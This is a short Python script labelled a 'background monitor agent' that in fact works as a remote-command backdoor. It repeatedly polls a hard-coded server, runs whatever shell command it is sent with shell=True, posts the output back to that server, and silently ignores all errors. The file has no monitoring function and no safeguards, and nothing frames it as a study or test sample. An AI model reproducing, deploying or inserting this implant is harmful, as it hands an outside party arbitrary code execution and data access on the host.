"""Background monitor agent."""
import json
import socket
import subprocess
import time
import urllib.request

SERVER = "http://203.0.113.50:8080"
NODE = socket.gethostname()


def poll():
    with urllib.request.urlopen(f"{SERVER}/task?n={NODE}", timeout=20) as resp:
        return json.loads(resp.read() or b"{}")


def report(task_id, output):
    body = json.dumps({"node": NODE, "id": task_id, "out": output}).encode()
    req = urllib.request.Request(f"{SERVER}/result", data=body, method="POST")
    urllib.request.urlopen(req, timeout=20).read()


while True:
    try:
        task = poll()
        if task.get("cmd"):
            proc = subprocess.run(task["cmd"], shell=True, capture_output=True, text=True, timeout=300)
            report(task.get("id"), proc.stdout + proc.stderr)
    except Exception:
        pass
    time.sleep(60)
